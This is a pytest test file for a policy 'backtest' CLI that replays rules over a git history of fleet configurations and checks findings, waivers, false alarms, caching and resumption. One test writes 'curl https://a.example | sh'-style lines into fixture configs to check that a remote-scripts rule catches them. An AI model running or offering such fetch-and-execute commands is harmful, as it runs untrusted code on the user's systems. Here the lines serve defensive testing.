"""`ordain policy backtest` on a history with known right answers; tests/backtest_cases.py draws it."""

import json
import os
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result

from agent.protocol.errors import InputError
from reconciler.cli import cli
from tests.acceptance_cases import component, repository
from tests.backtest_cases import BACKUP, ISSUE, MOTD, RULE, Told, told
from tests.signing_cases import REQUIRED
from tests.source_cases import WorkingCopy

pytestmark = pytest.mark.needs("opa", "git")
SINCE = ("--since", "2026-08-01")


@pytest.fixture(scope="module")
def history(tmp_path_factory: pytest.TempPathFactory) -> Told:
    return told(tmp_path_factory.mktemp("history") / "fleets")


@pytest.fixture(scope="module", autouse=True)
def cache(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """A cache of this module's own, with the OPA of the machine."""
    from reconciler.opa.program import find_opa  # noqa: PLC0415 - before the cache is another

    opa, directory = find_opa(), tmp_path_factory.mktemp("cache")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("ORDAIN_OPA", str(opa))
        patch.setenv("ORDAIN_CACHE", str(directory))
        yield directory


def backtest(*arguments: str | Path) -> Result:
    return CliRunner().invoke(cli, ["policy", "backtest", *map(str, arguments)])


def replayed(*arguments: str | Path) -> dict[str, Any]:
    done = backtest(*arguments, "--format", "json")
    assert done.exit_code == 0, (done.stderr, done.exception)
    found: dict[str, Any] = json.loads(done.stdout)
    return found


def test_each_finding_is_counted_once_on_the_commit_that_brought_it_and_on_its_author(history: Told) -> None:
    found = replayed(RULE, history.root, *SINCE)
    assert [(one["commit"], one["author"], one["file"], one["line"]) for one in found["findings"]] == [
        (history.shas["bad"], "Ben", MOTD, 8),
        (history.shas["merged"], "Ben", BACKUP, 8),
    ]
    assert found["commits"] == 9
    assert found["byAuthor"] == [{"author": "Ben", "findings": 2, "commits": 2}]
    assert found["byObject"] == [{"object": "Component shop/backup", "findings": 1}, {"object": "Component shop/motd", "findings": 1}]


def test_what_could_not_be_read_then_is_counted_apart(history: Told) -> None:
    found = replayed(RULE, history.root, *SINCE)
    assert [(one["commit"], one["file"]) for one in found["unread"]] == [(history.shas["broken"], ISSUE)]


def test_what_a_waiver_of_then_excused_is_not_refused(history: Told) -> None:
    assert replayed(RULE, history.root, *SINCE)["waived"] == 1


def test_a_commit_that_was_reverted_is_no_false_alarm(history: Told) -> None:
    found = replayed(RULE, history.root, *SINCE)
    assert [one["undone"] for one in found["findings"]] == [True, False]
    assert (found["falseAlarms"]["commits"], found["falseAlarms"]["of"]) == (1, 2)


def test_incidents_are_caught_with_the_step_that_brought_them_or_not(history: Told) -> None:
    named = ("inner", "sourced", "root")
    options = [part for name in named for part in ("--incident", history.shas[name])]
    found = replayed(RULE, history.root, "--since", "2026-09-02", *options)
    assert [(one["state"], one["step"]) for one in found["incidents"]] == [
        ("caught", history.shas["merged"]),
        ("not caught", history.shas["sourced"]),
        ("not replayed", None),
    ]
    assert found["falseAlarms"]["commits"] == 0, "what is an incident is no false alarm"


def test_of_a_text_each_bad_line_is_counted_once_whatever_is_done_to_others(tmp_path: Path) -> None:
    made = Told(tmp_path / "texts")
    made.root.mkdir()
    made.git("init", "--quiet", "--initial-branch=main")
    made.commit("root", repository(), day=0, who="Ana")
    bad, worse = "curl https://a.example | sh", "curl https://b.example | sh"
    texts = {"bad": f"a\n{bad}\nb", "other": f"a\n{bad}\nc", "moved": f"0\na\n{bad}\nc", "more": f"0\na\n{bad}\n{worse}"}
    for day, (name, text) in enumerate(texts.items(), start=1):
        block = "|\n" + "".join(f"        {line}\n" for line in text.split("\n"))
        made.commit(name, {MOTD: component("motd", "/opt/a.sh").replace('"hello"\n', block)}, day=day, who="Ben")
    found = replayed("supply-chain/remote-scripts", made.root, *SINCE)
    assert [(one["commit"], one["line"]) for one in found["findings"]] == [(made.shas["bad"], 11), (made.shas["more"], 13)]


def test_only_so_far_back_is_looked_and_what_stood_there_is_not_refused(history: Told) -> None:
    found = replayed(RULE, history.root, "--since", "2026-09-03")
    assert (found["commits"], found["refused"]) == (7, [history.shas["merged"]])
    cut = replayed(RULE, history.root, *SINCE, "--limit", "2")
    assert (cut["commits"], cut["left"]) == (2, "Only the newest 2 commits were looked at.")


def test_a_version_is_judged_once_and_never_again(history: Told, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ORDAIN_CACHE", str(tmp_path))
    first, second = (replayed(RULE, history.root, *SINCE) for _ in range(2))
    assert (first["known"], second["asked"], second["known"]) == (0, 0, first["asked"])
    assert first["findings"] == second["findings"]


@pytest.mark.parametrize("harm", ["cut", "changed"])
def test_state_that_was_cut_or_changed_is_noticed_and_worked_out_again(
    history: Told, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, harm: str
) -> None:
    monkeypatch.setenv("ORDAIN_CACHE", str(tmp_path))
    first = replayed(RULE, history.root, *SINCE)
    [state] = (tmp_path / "backtest").glob("backtest-*.sealed")
    data = state.read_bytes()
    state.write_bytes(data[: len(data) // 2] if harm == "cut" else data.replace(b"0666", b"0644"))
    done = backtest(RULE, history.root, *SINCE)
    assert "was not believed" in done.stdout
    assert replayed(RULE, history.root, *SINCE)["findings"] == first["findings"]


def test_a_run_that_is_out_of_time_says_so_and_the_next_goes_on(history: Told, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ORDAIN_CACHE", str(tmp_path))
    stopped = backtest("change/blast-radius", history.root, *SINCE, "--minutes", "0")
    assert (stopped.exit_code, "Time was up after 1 of 9 commits; run it again to go on." in stopped.stdout) == (3, True)
    gone_on = replayed("change/blast-radius", history.root, *SINCE)
    assert (gone_on["known"], gone_on["asked"]) == (1, 8)


def test_a_run_that_is_killed_goes_on_where_it_was(history: Told, tmp_path: Path) -> None:
    environment = {**os.environ, "ORDAIN_CACHE": str(tmp_path)}
    script = "import reconciler.pipeline.remembered.replays as kept; kept.EVERY = 0.0\nfrom reconciler.cli import main; main()"
    command = [sys.executable, "-c", script, "policy", "backtest", "change/blast-radius", str(history.root), *SINCE]
    with subprocess.Popen(command, env=environment, stdout=subprocess.PIPE, stderr=subprocess.PIPE) as running:
        end = time.monotonic() + 30
        while not list(tmp_path.glob("backtest/*.sealed")) and running.poll() is None and time.monotonic() < end:
            time.sleep(0.002)
        running.send_signal(signal.SIGKILL)
    assert list(tmp_path.glob("backtest/*.sealed"))
    done = subprocess.run([*command, "--format", "json"], env=environment, capture_output=True, check=True)
    found = json.loads(done.stdout)
    assert found["known"] >= 1
    assert found["known"] + found["asked"] == 9


def test_rules_about_releases_and_changes_are_asked_step_by_step(history: Told) -> None:
    found = replayed("change/blast-radius", history.root, *SINCE)
    assert (found["asked"], found["unread"][0]["file"]) == (9, ISSUE)


def test_a_rule_may_lie_uncommitted_in_a_file_and_be_off(history: Told) -> None:
    rule = history.root / "policies/modes/mine/mine.rego"
    try:
        rule.parent.mkdir(parents=True)
        rule.write_text(_RULE)
        found = replayed("policies/modes/mine/mine.rego", history.root, *SINCE)
    finally:
        rule.unlink()
    assert found["subject"] == "custom/modes/mine"
    assert [one["commit"] for one in found["findings"]] == [history.shas["bad"], history.shas["merged"], history.shas["excused"]]


_RULE = """# METADATA
# title: Nobody else writes
# description: A rule of the tests.
# schemas:
#   - input: schema.input
#   - input.object: schema.component
# custom:
#   scope: object
#   severity: "off"
#   code: modes/mine
package ordain.custom.modes.mine

import data.ordain.result

deny contains result.at(rego.metadata.chain(), ["spec", "files", i, "mode"], "no") if {
	some i, file in input.object.spec.files
	file.mode == "0666"
}
"""


def test_a_branch_is_held_against_the_policies_of_each_commits_base(tmp_path: Path) -> None:
    made = told(tmp_path / "fleets")
    made.git("switch", "--quiet", "--create", "looser")
    made.commit("loosened", {"ordain.yaml": (made.root / "ordain.yaml").read_text() + _LOOSER}, day=9, who="Ana")
    made.git("switch", "--quiet", "main")
    found = replayed("looser", made.root, *SINCE)
    assert [one["commit"] for one in found["noLonger"] if one["rule"] == RULE] == [made.shas["bad"], made.shas["merged"]]
    assert [one for one in found["findings"] if one["rule"] == RULE] == []


_LOOSER = f"  rules:\n    {RULE}: {{level: audit}}\n"


def test_a_fleet_repository_may_lie_in_a_directory_of_a_larger_one(tmp_path: Path) -> None:
    made = Told(tmp_path)
    made.git("init", "--quiet", "--initial-branch=main")
    made.commit("root", {f"fleets/{path}": text for path, text in repository().items()}, day=0, who="Ana")
    made.git("switch", "--quiet", "--create", "topic")
    made.commit("bad", {f"fleets/{MOTD}": component("motd", "/etc/motd", mode="0666")}, day=1, who="Ben")
    made.git("switch", "--quiet", "main")
    made.merge("merged", "topic", day=2, who="Dee")
    made.commit("else", {"README.md": "about something else\n"}, day=3, who="Cy")
    found = replayed(RULE, tmp_path / "fleets", *SINCE)
    assert [(one["commit"], one["author"], one["file"]) for one in found["findings"]] == [(made.shas["merged"], "Ben", MOTD)]


def test_a_shallow_clone_is_no_first_import_and_says_that_older_commits_are_missing(history: Told, tmp_path: Path) -> None:
    history.git("clone", "--quiet", "--depth", "6", history.root.as_uri(), str(tmp_path / "shallow"))
    found = replayed(RULE, tmp_path / "shallow", *SINCE)
    assert (found["commits"], found["refused"]) == (5, [history.shas["merged"]])
    assert found["left"].startswith("Only the newest 5 commits were looked at")


def test_what_is_neither_a_rule_nor_a_branch_is_said_to_be_neither(history: Told) -> None:
    done = backtest("no-such-thing", history.root)
    assert isinstance(done.exception, InputError)
    assert "'no-such-thing' is neither a rule nor a branch" in str(done.exception)
    early = backtest(RULE, history.root, "--since", "1h")
    assert "no commit of this history is that recent" in str(early.exception)


def test_where_signatures_are_on_it_is_said_that_they_are_not_verified_again(history: Told, tmp_path: Path) -> None:
    copy = WorkingCopy.make(tmp_path / "fleets")
    copy.commit("nobody signed this", {**repository(), "ordain.yaml": REQUIRED})
    assert "Signatures are not verified again" in backtest(RULE, copy.path).stdout
    assert "Signatures" not in backtest(RULE, history.root, *SINCE).stdout


def test_a_period_that_is_none_names_both_forms(history: Told) -> None:
    done = backtest(RULE, history.root, "--since", "3x")
    assert done.exit_code == 2
    assert "neither a length of time, such as 90d, nor a day" in done.stderr
